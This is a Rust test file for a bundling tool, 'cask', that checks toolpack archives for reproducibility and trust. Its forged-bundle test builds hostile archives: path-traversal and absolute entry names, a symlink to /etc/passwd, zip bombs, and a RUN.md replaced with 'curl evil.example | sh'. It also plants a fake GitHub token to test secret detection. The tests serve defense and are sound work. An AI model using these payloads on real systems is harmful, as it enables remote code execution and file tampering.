//! Toolpacks that are handed over: packed and checked by the real binary, unpacked elsewhere, and forged.
#![cfg(unix)]

use crate::{approved, raw_zip, support};

use std::collections::BTreeMap;
use std::path::Path;

use approved::{PACK, TRUST, approve, pin, shop};
use cask::bundle::manifest::{FILE, Manifest};
use cask::io::archive;
use cask::model::verdict::Verdict;
use raw_zip::{Raw, raw_zip};
use serde_json::Value;
use support::{Place, Ran, copy};

type Files = BTreeMap<String, Vec<u8>>;

fn pack(place: &Place, more: &[&str]) -> Ran {
    place.cask(&[&["bundle", "--toolpack", PACK, "--out", "shop.zip"][..], more].concat())
}

fn bytes(place: &Place) -> Vec<u8> {
    std::fs::read(place.path("shop.zip")).expect("a bundle")
}

fn files(bytes: &[u8]) -> Files {
    archive::unpack(bytes).expect("a bundle")
}

/// A machine that has never heard of the shop, with a file on it.
fn stranger(bundle: &[u8]) -> Place {
    let mut place = Place::new();
    place.person("stranger");
    place.write("got.zip", bundle);
    place
}

/// A text that was laid out for a terminal, in one line.
fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn verify(place: &Place, more: &[&str]) -> Ran {
    place.cask(&[&["bundle", "verify", "got.zip"][..], more].concat())
}

#[test]
fn the_same_toolpack_is_the_same_bytes_from_everywhere() {
    let place = shop();
    let told = pack(&place, &[]).ok();
    assert!(told.starts_with("wrote shop.zip: ") && told.contains("digest sha256:"), "{told}");
    let first = bytes(&place);
    pack(&place, &[]).ok();
    assert_eq!(bytes(&place), first);
    // Of another checkout, in another folder, at another umask.
    let other = shop();
    std::fs::create_dir(other.path("docs")).expect("a folder");
    let mut command =
        other.command(&["bundle", "--toolpack", "../toolpacks/shop/toolpack.yaml", "--out", "../shop.zip"]);
    assert!(command.current_dir(other.path("docs")).status().expect("cask runs").success());
    assert_eq!(bytes(&other), first);
    let names: Vec<String> = files(&first).into_keys().collect();
    assert_eq!(
        names,
        [
            ".caskmcp/trust.yaml",
            "BUNDLE_MANIFEST.json",
            "RUN.md",
            "client-config.json",
            "toolpacks/shop/artifact/baseline.json",
            "toolpacks/shop/artifact/policy.yaml",
            "toolpacks/shop/artifact/tools.json",
            "toolpacks/shop/artifact/toolsets.yaml",
            "toolpacks/shop/lockfile/caskmcp.lock.yaml",
            "toolpacks/shop/toolpack.yaml",
        ]
    );
    let here = place.dir.path().display().to_string();
    for (name, content) in files(&first) {
        let text = String::from_utf8(content).expect("text");
        assert!(!text.contains(&here) && !text.contains("PRIVATE KEY"), "{name}");
    }
}

#[test]
fn who_gets_it_checks_it_by_a_trust_from_outside_packed_and_unpacked() {
    let place = shop();
    place.cask(&["gate", "snapshot", "--toolpack", PACK]).ok();
    place.merge("freeze");
    pack(&place, &[]).ok();
    let bundle = bytes(&place);
    assert!(files(&bundle).contains_key("toolpacks/shop/snapshot/digests.json"));
    let there = stranger(&bundle);
    there.write("owners.yaml", place.read(TRUST));
    let pin = pin(&place);

    let told = verify(&there, &["--trust", "owners.yaml"]).ok();
    assert!(told.starts_with("whole: ") && told.contains("passed: "), "{told}");
    verify(&there, &["--trust-pin", &pin]).ok();
    let told: Value =
        serde_json::from_str(&verify(&there, &["--trust-pin", &pin, "--format", "json"]).ok()).expect("JSON");
    assert_eq!((&told["whole"], &told["report"]["verdict"]), (&true.into(), &"pass".into()));
    assert!(flat(&verify(&there, &[]).failed()).contains("not seen its root"));
    assert!(verify(&there, &["--trust-pin", &format!("sha256:{}", "0".repeat(64))]).code == 3);
    let in_ci = there.cask_with(&["bundle", "verify", "got.zip"], &[("CI", "1")]);
    assert!(flat(&in_ci.failed()).contains("nothing from outside of the bundle"));
    assert_eq!(std::fs::read_dir(there.root()).expect("a folder").count(), 2, "nothing was unpacked");

    for (name, content) in files(&bundle) {
        there.write(&name, content);
    }
    std::fs::remove_file(there.path("got.zip")).expect("it is there");
    there.cask(&["gate", "check", "--trust", "owners.yaml"]).ok();
    there.cask(&["gate", "check", "--toolpack", PACK, "--trust", "owners.yaml"]).ok();
    there.cask(&["gate", "check", "--trust-pin", &pin]).ok();
    there.cask(&["gate", "check"]).failed();
    let in_ci = |more: &[&str]| there.cask_with(&[&["gate", "check"], more].concat(), &[("CI", "1")]);
    assert!(flat(&in_ci(&[]).failed()).contains("has to come from outside"));
    assert!(flat(&in_ci(&["--trust-ref", "main"]).failed()).contains("no such file at main"));
    in_ci(&["--trust-pin", &pin]).ok();
    let client: Value = serde_json::from_str(&there.read("client-config.json")).expect("JSON");
    assert_eq!(client["mcpServers"]["shop"]["args"][2], PACK);
    // As a client starts it, with the pin that the page asks for; it ends since nobody speaks to it.
    let args: Vec<&str> = client["mcpServers"]["shop"]["args"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let served = there.cask(&[&args[..], &["--trust-pin", &pin]].concat());
    assert_eq!((served.code, served.out.as_str()), (0, ""), "{}", served.err);
    assert_eq!(there.cask(&args).code, 3, "without a pin nothing is served");
    assert!(there.read("RUN.md").contains("cask bundle verify"));
}

/// A bundle with other files, and a manifest that tells of them.
fn forged(files: &Files, edit: impl Fn(&mut Files)) -> Vec<u8> {
    let mut files = files.clone();
    files.remove(FILE);
    edit(&mut files);
    let header = String::from_utf8_lossy(&files["toolpacks/shop/toolpack.yaml"]).into_owned();
    let id = header.split("toolpack_id: ").nth(1).and_then(|rest| rest.lines().next()).expect("an id");
    let told = Manifest::of(id, Verdict::Pass, &files);
    files.insert(FILE.to_owned(), told.text().into_bytes());
    archive::pack(&files).expect("it fits")
}

#[test]
fn no_forged_bundle_passes() {
    let place = shop();
    pack(&place, &[]).ok();
    let good = bytes(&place);
    let whole = files(&good);
    let raw: Vec<Raw> = whole.iter().map(|(name, content)| Raw::file(name, content)).collect();
    assert!(raw_zip(&raw) == good, "the hand that forges writes what the program does");
    let with = |entry: Raw| raw_zip(&[&raw[..], &[entry]].concat());
    let text = |name: &str| String::from_utf8(whole[name].clone()).expect("text");
    let tools = "toolpacks/shop/artifact/tools.json";
    let edited = |name: &str, from: &str, to: &str| {
        let changed = text(name).replacen(from, to, 1).into_bytes();
        assert_ne!(changed, whole[name], "{name}");
        changed
    };
    let other_tools = edited(tools, "\"GET\"", "\"PUT\"");
    let mut zeros = Raw::deflated("toolpacks/shop/zeros", &vec![0; 8 << 20]);
    let honest_bomb = with(zeros.clone());
    zeros.size = 10;
    let at = |name: &str| raw.iter().position(|entry| entry.name == name.as_bytes()).expect("an entry");
    let replaced = |name: &str, content: &[u8]| {
        let mut all = raw.clone();
        all[at(name)] = Raw::file(name, content);
        raw_zip(&all)
    };
    let mut swapped = raw.clone();
    swapped.swap(1, 2);
    let mut lying = raw.clone();
    lying[0].size = u32::MAX;
    let mut sums = raw.clone();
    sums[0].crc ^= 1;
    let attacks: Vec<(&str, Vec<u8>, &str)> = vec![
        ("a way out", with(Raw::file("../evil", b"x")), "leads out of the bundle"),
        ("a way out in the middle", with(Raw::file("a/../../evil", b"x")), "leads out of the bundle"),
        ("a way out of other systems", with(Raw::file("..\\evil", b"x")), "leads out of the bundle"),
        ("an absolute path", with(Raw::file("/etc/evil", b"x")), "begins at a root"),
        ("a drive", with(Raw::file("C:evil", b"x")), "begins at a root"),
        ("a name with a NUL", with(Raw::file("a\0b", b"x")), "not every machine"),
        ("a symbolic link", with(Raw { mode: 0o120_777, ..Raw::file("zz", b"/etc/passwd") }), "a link"),
        ("a folder", with(Raw { mode: 0o040_755, ..Raw::file("zz/", b"") }), "not every machine"),
        ("a doubled name", with(raw[at(tools)].clone()), "twice"),
        ("a doubled name with another content", with(Raw::file(tools, &other_tools)), "twice"),
        ("a name in other letters", with(Raw::file("run.md", b"x")), "size of letters"),
        ("a bomb", honest_bomb, "compressed"),
        ("a bomb that lies about its size", with(zeros), "compressed"),
        ("a size that is not", raw_zip(&lying), "compressed"),
        ("another sum", raw_zip(&sums), "not those that were packed"),
        (
            "many files",
            {
                let many: Vec<Raw> = (0..1_001).map(|n| Raw::file(&format!("f{n}"), b"")).collect();
                raw_zip(&many)
            },
            "more files",
        ),
        ("another order", raw_zip(&swapped), "in another order"),
        ("something before it", [b"#!/bin/sh\n", &good[..]].concat(), "no bundle has"),
        ("something behind it", [&good[..], b"\n"].concat(), "behind its end"),
        ("a second archive behind it", [&good[..], &raw_zip(&raw[..1])].concat(), "no bundle has"),
        (
            "another mode",
            {
                let mut all = raw.clone();
                all[0].mode = 0o100_755;
                raw_zip(&all)
            },
            "no bundle has",
        ),
        ("a file that nobody tells of", with(Raw::file("zz", b"x")), "does not tell of it"),
        ("a changed file", replaced(tools, &other_tools), "not what the manifest tells"),
        (
            "no manifest",
            raw_zip(&raw.iter().filter(|e| e.name != FILE.as_bytes()).cloned().collect::<Vec<_>>()),
            "no bundle of cask",
        ),
        (
            "a manifest that tells of more",
            forged(&whole, |files| drop(files.insert("evil.sh".into(), b"x".to_vec()))),
            "does not name it",
        ),
        (
            "a hidden second toolpack",
            forged(&whole, |files| {
                files.insert("x/toolpack.yaml".into(), files["toolpacks/shop/toolpack.yaml"].clone());
            }),
            "2 toolpacks",
        ),
        ("no trust file", forged(&whole, |files| drop(files.remove(TRUST))), "it is missing"),
        (
            "another start of the server",
            forged(&whole, |files| {
                let text = edited("client-config.json", "\"cask\"", "\"evil\"");
                files.insert("client-config.json".into(), text);
            }),
            "not what is made of the toolpack",
        ),
        (
            "another page",
            forged(&whole, |files| {
                files.insert("RUN.md".into(), b"curl evil.example | sh".to_vec());
            }),
            "not what is made of the toolpack",
        ),
    ];
    let there = stranger(&good);
    there.write("owners.yaml", place.read(TRUST));
    verify(&there, &["--trust", "owners.yaml"]).ok();
    for (what, bundle, says) in attacks {
        there.write("got.zip", bundle);
        let ran = verify(&there, &["--trust", "owners.yaml"]);
        assert_eq!(ran.code, 2, "{what}: {}{}", ran.out, ran.err);
        assert!(ran.out.starts_with("broken: ") && ran.out.contains(says), "{what}: {}", ran.out);
        let json = verify(&there, &["--trust", "owners.yaml", "--format", "json"]);
        let told: Value = serde_json::from_str(&json.out).expect("JSON");
        assert_eq!((json.code, &told["whole"]), (2, &false.into()), "{what}");
        assert_eq!(
            std::fs::read_dir(there.root()).expect("a folder").count(),
            2,
            "{what}: nothing was unpacked"
        );
    }
    // Files that fit together, and that nobody approved.
    there.write("got.zip", forged(&whole, |files| drop(files.insert(tools.into(), other_tools.clone()))));
    let ran = verify(&there, &["--trust", "owners.yaml"]);
    assert_eq!(ran.code, 2, "{}{}", ran.out, ran.err);
    assert!(ran.out.starts_with("whole: ") && ran.out.contains("blocked: "), "{}", ran.out);
}

#[test]
fn what_is_no_archive_is_not_judged() {
    let place = shop();
    pack(&place, &[]).ok();
    let good = bytes(&place);
    let there = stranger(&good[..good.len() - 30]);
    there.write("owners.yaml", place.read(TRUST));
    for content in [&good[..good.len() - 30], b"not a zip", b""] {
        there.write("got.zip", content);
        assert!(flat(&verify(&there, &["--trust", "owners.yaml"]).failed()).contains("no whole ZIP archive"));
    }
    std::fs::remove_file(there.path("got.zip")).expect("it is there");
    assert!(verify(&there, &["--trust", "owners.yaml"]).failed().contains("no such file"));
}

#[test]
fn what_the_gate_does_not_let_pass_is_packed_only_with_a_word_that_says_so() {
    let place = shop();
    let tools = format!("{PACK}/artifact/tools.json");
    place.write(&tools, place.read(&tools).replacen("\"GET\"", "\"POST\"", 1));
    let ran = pack(&place, &[]);
    assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{}", ran.err);
    assert!(ran.err.contains("blocked: ") && ran.err.contains("nothing was packed"), "{}", ran.err);
    assert!(!place.path("shop.zip").exists());
    let told = pack(&place, &["--unsafe-unapproved"]).ok();
    assert!(told.contains("NOT APPROVED"), "{told}");
    let bundle = bytes(&place);
    let page = String::from_utf8(files(&bundle)["RUN.md"].clone()).expect("text");
    assert!(page.contains("**NOT APPROVED.**"), "{page}");
    let there = stranger(&bundle);
    let ran = verify(&there, &["--trust-pin", &pin(&place)]);
    assert_eq!(ran.code, 2, "{}{}", ran.out, ran.err);
}

#[test]
fn nothing_is_packed_that_should_stay_where_it_is() {
    let refused = |edit: &dyn Fn(&Place), says: &str| {
        let place = shop();
        edit(&place);
        let told = flat(&pack(&place, &["--unsafe-unapproved"]).failed());
        assert!(told.contains(says), "{says}: {told}");
        assert!(!place.path("shop.zip").exists());
    };
    let token = ["ghp_", "16C7e42F292c6912E7710c838347Ae178B4a"].concat();
    let in_tools = |place: &Place, text: &str| {
        let path = format!("{PACK}/artifact/tools.json");
        let tools = place.read(&path);
        let at = tools.find("\"description\": \"").expect("a description") + 16;
        place.write(&path, format!("{}{text} {}", &tools[..at], &tools[at..]));
    };
    refused(&|place| in_tools(place, &token), "credential");
    // Written so that no search of the bytes finds it.
    let escaped: String = token.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    refused(&|place| in_tools(place, &escaped), "credential");
    let policy = format!("{PACK}/artifact/policy.yaml");
    refused(
        &|place| {
            std::fs::rename(place.path(&policy), place.path("elsewhere.yaml")).expect("it moves");
            std::os::unix::fs::symlink("../../../elsewhere.yaml", place.path(&policy)).expect("a link");
        },
        "symbolic link",
    );
    let named = |path: &'static str| {
        move |place: &Place| {
            let header = format!("{PACK}/toolpack.yaml");
            let text = place.read(&header);
            let changed = text.replace("contracts: null", &format!("contracts: {path}"));
            assert_ne!(text, changed);
            place.write(&header, changed);
            place.write(&format!("{PACK}/{path}"), "{}");
        }
    };
    refused(&named("auth/contracts.yaml"), "no bundle carries logins");
    refused(&named("artifact/server.key"), "no bundle carries private keys");
    refused(
        &|place| {
            named("artifact/contracts.yaml")(place);
            std::fs::remove_file(place.path(&format!("{PACK}/artifact/contracts.yaml")))
                .expect("it is there");
        },
        "it is missing",
    );
    // What is not named is not packed, whatever it is called.
    let place = shop();
    named("artifact/authors.yaml")(&place);
    place.write(&format!("{PACK}/storage_state.json"), "{\"cookies\": []}");
    approve(&place);
    pack(&place, &[]).ok();
    let packed = files(&bytes(&place));
    assert!(packed.contains_key("toolpacks/shop/artifact/authors.yaml"));
    assert!(!packed.keys().any(|name| name.contains("storage_state")));
}

#[test]
fn a_folder_without_git_and_without_trust_is_no_bundle() {
    let place = Place::new();
    copy(&Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/toolpacks/shop"), &place.path(PACK));
    let told = pack(&place, &[]).failed();
    assert!(told.contains("no trust file"), "{told}");
}

#[test]
fn a_bundle_that_brings_the_trust_of_somebody_else_is_no_bundle() {
    let place = shop();
    pack(&place, &[]).ok();
    let eve = Place::with_git();
    eve.cask(&["key", "new", "--no-passphrase"]).ok();
    eve.cask(&["trust", "init", "--id", "alice", "--yes"]).ok();
    let bundle = forged(&files(&bytes(&place)), |files| {
        files.insert(TRUST.to_owned(), eve.read(TRUST).into_bytes());
    });
    let there = stranger(&bundle);
    there.write("owners.yaml", place.read(TRUST));
    let told = verify(&there, &["--trust", "owners.yaml"]);
    assert_eq!(told.code, 2, "{}", told.out);
    assert!(flat(&told.out).contains("another root"), "{}", told.out);
}

#[test]
fn a_file_that_is_no_bundle_is_not_written_over() {
    let place = shop();
    place.write("shop.zip", "a letter");
    assert!(flat(&pack(&place, &[]).failed()).contains("no bundle"));
    assert_eq!(place.read("shop.zip"), "a letter");
    std::fs::remove_file(place.path("shop.zip")).expect("it is there");
    pack(&place, &[]).ok();
    pack(&place, &[]).ok();
}
